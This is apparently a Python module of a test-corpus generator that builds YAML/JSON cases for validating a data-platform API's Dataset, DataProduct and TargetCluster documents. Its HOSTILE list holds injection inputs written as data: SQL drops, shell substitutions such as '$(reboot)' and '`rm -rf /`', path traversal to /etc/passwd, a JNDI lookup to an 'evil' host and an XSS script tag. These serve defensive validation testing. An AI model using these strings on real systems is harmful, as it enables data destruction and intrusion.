"""Shared machinery of the corpus generator: base documents, YAML output, document surgery
and the case registry. See generate.py."""

import copy
import json
import re
import urllib.parse

# ---------------------------------------------------------------------------------------------
# Base documents: the retail example (examples/retail), and fresh catalog entries that are
# never stored (so a wrongly accepted case cannot change the catalog other cases rely on).

API = "sluice.dev/v1alpha1"

ORDERS_SCHEMA = {
    "type": "object",
    "required": ["id", "customer_id", "amount"],
    "properties": {
        "id": {"type": "string"},
        "customer_id": {"type": "string"},
        "amount": {"type": "number"},
        "currency": {"type": "string"},
        "status": {"type": "string", "enum": ["PLACED", "PAID", "SHIPPED", "CANCELLED"]},
        "created_at": {"type": "string", "format": "date-time"},
        "shipping_email": {"type": "string", "x-pii": True},
        "address": {"type": "object", "properties": {"city": {"type": "string"}}},
        "gift": {"type": "boolean"},
    },
}

DS_STREAM = {
    "apiVersion": API,
    "kind": "Dataset",
    "metadata": {
        "name": "corpus.orders",
        "owner": "team-shop",
        "description": "Orders, as a fresh catalog entry",
        "tags": ["orders"],
    },
    "spec": {
        "topic": "corpus.orders",
        "kind": "stream",
        "key": "id",
        "timestampField": "created_at",
        "classification": "internal",
        "compatibility": "BACKWARD",
        "schema": ORDERS_SCHEMA,
    },
}

DS_TABLE = {
    "apiVersion": API,
    "kind": "Dataset",
    "metadata": {"name": "corpus.customers", "owner": "team-crm"},
    "spec": {
        "topic": "corpus.customers",
        "kind": "table",
        "key": "id",
        "classification": "confidential",
        "schema": {
            "type": "object",
            "required": ["id"],
            "properties": {
                "id": {"type": "string"},
                "name": {"type": "string"},
                "email": {"type": "string", "x-pii": True},
            },
        },
    },
}

# The stored shop.orders, for schema changes its compatibility rule refuses.
DS_SHOP_ORDERS = {
    "apiVersion": API,
    "kind": "Dataset",
    "metadata": {
        "name": "shop.orders",
        "owner": "team-shop",
        "description": "Every order placed in the web shop; a new event for each status change",
        "tags": ["orders", "retail"],
    },
    "spec": {
        "topic": "shop.orders",
        "kind": "stream",
        "key": "id",
        "timestampField": "created_at",
        "classification": "internal",
        "compatibility": "BACKWARD",
        "schema": {
            "type": "object",
            "required": ["id", "customer_id", "amount"],
            "properties": {
                "id": {"type": "string"},
                "customer_id": {"type": "string"},
                "amount": {"type": "number"},
                "currency": {"type": "string"},
                "status": {"type": "string", "enum": ["PLACED", "PAID", "SHIPPED", "CANCELLED"]},
                "created_at": {"type": "string", "format": "date-time"},
                "shipping_email": {"type": "string", "x-pii": True},
            },
        },
    },
}


def cluster(name, type_, url, isolation):
    return {
        "apiVersion": API,
        "kind": "TargetCluster",
        "metadata": {"name": name},
        "spec": {"type": type_, "url": url, "isolation": isolation, "allowedTeams": ["*"]},
    }


TC_PG = cluster("corpus-pg", "postgres", "postgres://u:p@127.0.0.1:1/db", "schema")
TC_ES = cluster("corpus-es", "elasticsearch", "http://127.0.0.1:1", "index")
TC_REDIS = cluster("corpus-redis", "redis", "redis://u:p@127.0.0.1:1/0", "acl-prefix")

P_PG = {
    "apiVersion": API,
    "kind": "DataProduct",
    "metadata": {
        "name": "orders-enriched",
        "team": "team-payments",
        "description": "Paid orders with customer details, for the payment confirmation service",
    },
    "spec": {
        "sources": [
            {"name": "o", "dataset": "shop.orders", "from": "90d"},
            {"name": "c", "dataset": "crm.customers"},
            {"name": "p", "dataset": "pay.payments", "from": "90d"},
        ],
        "joins": [
            {"type": "lookup", "right": "c", "on": "o.customer_id == c.id"},
            {"type": "window", "right": "p", "on": "o.id == p.order_id", "within": "1h"},
        ],
        "filter": 'o.status != "CANCELLED" && p.amount >= o.amount',
        "key": "o.id",
        "fields": {
            "order_id": "o.id",
            "amount": "o.amount",
            "currency": "o.currency",
            "customer_name": "c.name",
            "paid_at": {"expr": "p.created_at", "type": "timestamp"},
            "amount_cents": {"expr": "int(o.amount * 100.0)", "type": "integer"},
        },
        "target": {"cluster": "shared-pg", "name": "orders_enriched", "mode": "upsert"},
        "deletionPolicy": "Delete",
    },
}

P_ES = {
    "apiVersion": API,
    "kind": "DataProduct",
    "metadata": {
        "name": "order-search",
        "team": "team-support",
        "description": "Searchable orders with customer name and tier, for the support desk",
    },
    "spec": {
        "sources": [
            {"name": "o", "dataset": "shop.orders", "from": "earliest"},
            {"name": "c", "dataset": "crm.customers"},
        ],
        "joins": [
            {"type": "lookup", "right": "c", "on": "o.customer_id == c.id", "propagate": True}
        ],
        "key": "o.id",
        "fields": {
            "order_id": "o.id",
            "status": "o.status",
            "amount": "o.amount",
            "customer_name": "c.name",
            "customer_tier": "c.tier",
            "placed_at": {"expr": "o.created_at", "type": "timestamp"},
        },
        "target": {
            "cluster": "shared-search",
            "name": "order-search",
            "mode": "upsert",
            "options": {"shards": 1, "replicas": 0},
        },
        "deletionPolicy": "Retain",
    },
}

P_REDIS = {
    "apiVersion": API,
    "kind": "DataProduct",
    "metadata": {
        "name": "open-orders-cache",
        "team": "team-shop",
        "description": "Orders not yet shipped, keyed by order id, for the order-status API",
    },
    "spec": {
        "sources": [{"name": "o", "dataset": "shop.orders", "from": "7d"}],
        "filter": 'o.status == "PLACED" || o.status == "PAID"',
        "key": "o.id",
        "fields": {"status": "o.status", "amount": "o.amount", "currency": "o.currency"},
        "target": {
            "cluster": "shared-redis",
            "name": "open_orders",
            "mode": "upsert",
            "options": {"type": "hash", "ttl": "7d"},
        },
        "deletionPolicy": "Delete",
    },
}

# Hostile text for every name a spec carries: SQL, JSON, shell, path, glob, control characters.
HOSTILE = [
    ("sql-quote", 'x"; DROP TABLE users; --'),
    ("sql-single-quote", "x'; DELETE FROM objects; --"),
    ("sql-or", "' OR '1'='1"),
    ("shell-subst", "$(reboot)"),
    ("shell-backticks", "`rm -rf /`"),
    ("shell-semicolon", "a; rm -rf /"),
    ("path-traversal", "../../etc/passwd"),
    ("json-object", '{"$ne": null}'),
    ("newline", "orders\nDROP"),
    ("nul-byte", "orders\u0000x"),
    ("glob", "orders:*"),
    ("template", "${jndi:ldap://evil/a}"),
    ("html", "<script>alert(1)</script>"),
    ("unicode", "bestellungen-\u00fc"),
    ("rtl-override", "orders\u202egnp.exe"),
    ("space", "orders enriched"),
]

# ---------------------------------------------------------------------------------------------
# YAML output (block style; strings quoted whenever a plain scalar could be misread).

PLAIN = re.compile(r"^[A-Za-z_][A-Za-z0-9_.\-]*$")
RESERVED_PLAIN = {"true", "false", "null", "yes", "no", "on", "off", "y", "n", "~"}


def dquote(s):
    out = ['"']
    for ch in s:
        o = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif o < 0x20 or 0x7F <= o <= 0x9F or ch in "\u2028\u2029\ufeff" or 0xD800 <= o <= 0xDFFF:
            out.append("\\u%04x" % o)
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def scalar(v):
    if v is None:
        return "null"
    if v is True:
        return "true"
    if v is False:
        return "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        if v != v:
            return ".nan"
        if v in (float("inf"), float("-inf")):
            return ".inf" if v > 0 else "-.inf"
        return repr(v)
    if isinstance(v, str):
        if PLAIN.match(v) and v.lower() not in RESERVED_PLAIN:
            return v
        return dquote(v)
    raise TypeError(v)


def emit(value, indent=0):
    pad = " " * indent
    lines = []
    if isinstance(value, dict):
        for k, v in value.items():
            key = scalar(k)
            if isinstance(v, dict) and v:
                lines.append(f"{pad}{key}:")
                lines.extend(emit(v, indent + 2))
            elif isinstance(v, list) and v:
                lines.append(f"{pad}{key}:")
                lines.extend(emit(v, indent + 2))
            elif isinstance(v, dict):
                lines.append(f"{pad}{key}: {{}}")
            elif isinstance(v, list):
                lines.append(f"{pad}{key}: []")
            else:
                lines.append(f"{pad}{key}: {scalar(v)}")
    elif isinstance(value, list):
        for item in value:
            if isinstance(item, (dict, list)) and item:
                inner = emit(item, indent + 2)
                inner[0] = pad + "- " + inner[0][indent + 2 :]
                lines.extend(inner)
            elif isinstance(item, dict):
                lines.append(f"{pad}- {{}}")
            elif isinstance(item, list):
                lines.append(f"{pad}- []")
            else:
                lines.append(f"{pad}- {scalar(item)}")
    else:
        lines.append(pad + scalar(value))
    return lines


def to_yaml(doc):
    return "\n".join(emit(doc)) + "\n"


# ---------------------------------------------------------------------------------------------
# Document surgery. A path is a list of keys / indices.

DELETE = object()


def mutate(base, *edits):
    doc = copy.deepcopy(base)
    for path, value in edits:
        parent = doc
        for step in path[:-1]:
            parent = parent[step]
        last = path[-1]
        if value is DELETE:
            del parent[last]
        elif isinstance(parent, list) and last == len(parent):
            parent.append(value)
        else:
            parent[last] = value
    return doc


def p(path):
    """A dotted path (`spec.sources.0.name`) as a list of steps."""
    return [int(s) if s.isdigit() else s for s in path.split(".")]


def ptr(*tokens):
    """A JSON pointer of reference tokens, escaped (RFC 6901)."""
    return "".join("/" + str(t).replace("~", "~0").replace("/", "~1") for t in tokens)


def seg(text):
    return urllib.parse.quote(text, safe="")


def endpoint_for(doc, fallback):
    """The URL a document is applied at: its own kind, team and name when usable, so that
    no URL mismatch hides the problem under test."""
    kind = doc.get("kind") if isinstance(doc, dict) else None
    if kind not in ("Dataset", "TargetCluster", "DataProduct"):
        kind = fallback["kind"]
    meta = doc.get("metadata") if isinstance(doc, dict) else None
    meta = meta if isinstance(meta, dict) else {}
    fb_meta = fallback["metadata"]

    def usable(key):
        v = meta.get(key)
        return v if isinstance(v, str) and v not in ("", ".", "..") else fb_meta.get(key)

    name = usable("name")
    if kind == "DataProduct":
        team = usable("team") or "team-payments"
        return f"PUT /api/v1/products/{seg(team)}/{seg(name)}"
    if kind == "Dataset":
        return f"PUT /api/v1/datasets/{seg(name)}"
    return f"PUT /api/v1/targetclusters/{seg(name)}"


# ---------------------------------------------------------------------------------------------
# The cases.

CASES = {}  # (category, name) -> (ext, header lines, body bytes)


def add(category, name, body, *, endpoint, status=422, pointers=(), desc, content_type="application/yaml", ext=None):
    assert re.match(r"^[a-z0-9][a-z0-9_-]*$", name), name
    key = (category, name)
    assert key not in CASES, f"duplicate case {category}/{name}"
    if isinstance(body, str):
        body = body.encode("utf-8")
    header = [f"case: {desc}", f"endpoint: {endpoint}", f"content-type: {content_type}", f"expect-status: {status}"]
    for pointer in pointers:
        # Quoted (a JSON string) when empty or not plain printable ASCII.
        plain = pointer and re.match(r"^[\x21-\x7e]+$", pointer)
        header.append(f"expect-pointer: {pointer if plain else json.dumps(pointer)}")
    for line in header:
        assert "\n" not in line, line
    if ext is None:
        # Bodies with control characters (other than tab and line breaks) or bytes that are
        # not UTF-8 are stored raw, so no editor or tool mistakes the case file for text.
        try:
            textual = not any(ord(ch) < 0x20 and ch not in "\t\r\n" or ord(ch) == 0x7F for ch in body.decode("utf-8"))
        except UnicodeDecodeError:
            textual = False
        if not textual:
            ext = "bin"
        else:
            ext = "json" if content_type == "application/json" else "yaml"
    CASES[key] = (ext, header, body)


def doc_case(category, name, doc, pointers, desc, *, fallback=None, status=422, endpoint=None, as_json=False):
    fallback = fallback or doc
    endpoint = endpoint or endpoint_for(doc, fallback)
    if as_json:
        body = json.dumps(doc, indent=2, ensure_ascii=False) + "\n"
        add(category, name, body, endpoint=endpoint, status=status, pointers=pointers, desc=desc, content_type="application/json")
    else:
        add(category, name, to_yaml(doc), endpoint=endpoint, status=status, pointers=pointers, desc=desc)


def edit_case(category, name, base, edits, pointers, desc, **kw):
    doc_case(category, name, mutate(base, *edits), pointers, desc, fallback=base, **kw)


KINDS = [("product", P_PG), ("dataset", DS_STREAM), ("cluster", TC_PG)]

# Values of every JSON type, to put where another type belongs.
WRONG = {
    "int": 42,
    "float": 1.5,
    "bool": True,
    "null": None,
    "list": ["a", "b"],
    "map": {"a": "b"},
    "string": "text",
    "empty-list": [],
    "empty-map": {},
}


def wrong_types(category, prefix, base, path, pointer, keep, desc):
    """One case per JSON type except those in `keep` (the types the field accepts)."""
    for tname, value in WRONG.items():
        if tname in keep:
            continue
        edit_case(category, f"{prefix}-is-{tname}", base, [(p(path), value)], [pointer], f"{desc} is a {tname}")
